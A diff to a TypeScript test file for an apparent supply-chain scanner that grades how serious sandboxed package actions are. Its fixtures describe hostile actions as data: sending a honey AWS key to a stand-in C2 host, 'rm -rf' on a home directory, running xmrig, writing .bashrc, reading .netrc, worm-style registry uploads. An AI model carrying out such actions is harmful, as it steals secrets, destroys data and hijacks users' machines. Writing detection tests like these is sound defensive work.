@@ -96,14 +96,41 @@ describe('judging a record', () => {
     expect(publishes()).toBe(true)
   })
 
-  it('takes pushing to where the project has its home, when that is asked for, for less than any other publication', () => {
+  it('takes pushing and publishing for what a function was called for, unless it goes to an address of its own or to all that its user may publish', () => {
     const severity = (line: string, phase: 'import' | 'execute' = 'execute'): string | undefined => found({ says: 'pushes', phase, acts: [{ kind: 'exec', target: '/usr/bin/git', argv: line.split(' ') }] }).find(({ detector }) => detector === 'did-publish')?.severity
-    expect(severity('git push --tags')).toBe('medium')
+    expect(severity('git push --tags')).toBe('low')
     expect(severity('git push --tags', 'import')).toBe('critical')
-    expect(severity('git push https://x@code.drop.example/r HEAD')).toBe('high')
-    expect(severity('git push git@code.drop.example:r HEAD')).toBe('high')
-    expect(severity('git -c remote.origin.url=/x push origin')).toBe('high')
-    expect(severity('npm publish')).toBe('high')
+    expect(severity('git push https://x@code.drop.example/r HEAD')).toBe('medium')
+    expect(severity('git push git@code.drop.example:r HEAD')).toBe('medium')
+    expect(severity('git push https://www.shop.example/products?page=1')).toBe('low')
+    expect(severity('git -c remote.origin.url=/x push origin')).toBe('medium')
+    expect(severity('npm publish')).toBe('low')
+    const uploads = (...names: string[]): string | undefined => found({ says: 'a worm', phase: 'execute', acts: names.map((name) => ({ kind: 'request', target: `https://registry.example/${name}`, method: name.startsWith('-/') ? 'GET' : 'PUT' })) }).find(({ detector }) => detector === 'did-publish')?.severity
+    expect(uploads('one')).toBe('low')
+    expect(uploads('one', 'two')).toBe('high')
+    expect(uploads('-/v1/search?text=maintainer:ada', 'one')).toBe('high')
+  })
+
+  it('takes what is called with made-up arguments for what it is for, and all of it together for one remark', () => {
+    const remarks: Sample['acts'] = [
+      { kind: 'exec', target: '/usr/bin/git', argv: ['git', 'push'] }, { kind: 'exec', target: '/usr/bin/git', argv: ['git', 'config', '--global', 'user.name', 'x'] },
+      { kind: 'exec', target: '/usr/bin/npm', argv: ['npm', 'install', 'left-pad'] }, { kind: 'read', target: '/home/mkeller/.netrc' }, { kind: 'request', target: 'https://api.drop.example/mkeller', method: 'GET' },
+      { kind: 'delete', target: '/home/mkeller/projects/shop/dist/a.js' }, { kind: 'delete', target: '/home/mkeller/projects/shop/dist/b.js' }, { kind: 'exec', target: '/bin/sh', argv: ['sh', '-c', 'id'] },
+    ]
+    const weighed = (phase: 'import' | 'execute', more: Sample['acts'] = []): { level: string; score: number; grave: string[] } => {
+      const sample: Sample = { says: 'called', phase, acts: [...remarks, ...more], disk: ['a', 'b'].map((name) => ({ what: 'deleted' as const, path: `/home/mkeller/projects/shop/dist/${name}.js` })) }
+      const { level, score, findings } = weigh('sha256:00', judge(recordOf(sample), sampleAbout(sample)), [], '')
+      return { level, score, grave: findings.filter(({ severity }) => severity !== 'low').map(({ detector }) => detector) }
+    }
+    expect(weighed('execute')).toMatchObject({ level: 'clean', grave: [] })
+    expect(weighed('execute').score).toBeLessThanOrEqual(7)
+    expect(weighed('import').level).toBe('malicious')
+    // What no argument explains is as grave as it was.
+    const alarms = (detector: string, act: Sample['acts'][number]): void => expect(weighed('execute', [act])).toMatchObject({ level: expect.stringMatching('suspicious|malicious') as string, grave: [detector] })
+    alarms('did-persist', { kind: 'write', target: '/home/mkeller/.bashrc' })
+    alarms('did-send-secrets', { kind: 'request', target: 'https://c2.drop.example/x', method: 'POST', honey: [{ token: 'aws-key', encodings: [], where: 'body' }] })
+    alarms('did-destroy', { kind: 'exec', target: '/bin/rm', argv: ['rm', '-rf', '/home/mkeller'] })
+    alarms('did-mine', { kind: 'exec', target: '/tmp/xmrig', argv: ['/tmp/xmrig', '-o', 'pool'] })
   })
 
   it('takes the path that a function was called with for the caller’s word, and for nothing else', () => {
@@ -125,8 +152,11 @@ describe('judging a record', () => {
   it('takes changing the own settings when it is used for less than changing another’s', () => {
     const severity = (target: string, phase: 'install' | 'execute'): string | undefined => found({ says: 'settings', phase, acts: [{ kind: 'write', target }] }).find(({ detector }) => detector === 'did-change-settings')?.severity
     expect(severity('/home/mkeller/.npmrc', 'execute')).toBe('medium')
-    expect(severity('/home/mkeller/.docker/config.json', 'execute')).toBe('medium')
+    expect(severity('/home/mkeller/.docker/config.json', 'execute')).toBe('low')
     expect(severity('/home/mkeller/.docker/config.json', 'install')).toBe('high')
+    const told = (line: string): string | undefined => found({ says: 'settings', phase: 'execute', acts: [{ kind: 'exec', target: '/usr/bin/npm', argv: line.split(' ') }] }).find(({ detector }) => detector === 'did-change-settings')?.severity
+    expect(told('git config --global credential.helper store')).toBe('low')
+    expect(told('npm config set registry https://x.drop.example')).toBe('medium')
     const docker = { says: 'its own', phase: 'execute', acts: [{ kind: 'write', target: '/home/mkeller/.docker/config.json' }] } as const
     const own = judge(recordOf(docker), { ...sampleAbout(docker), ref: { ecosystem: 'pypi', name: 'docker', version: '1' } })
     expect(own.flatMap((run) => (run.status === 'ok' ? run.findings : [])).map(({ severity: grave }) => grave)).toEqual(['low'])
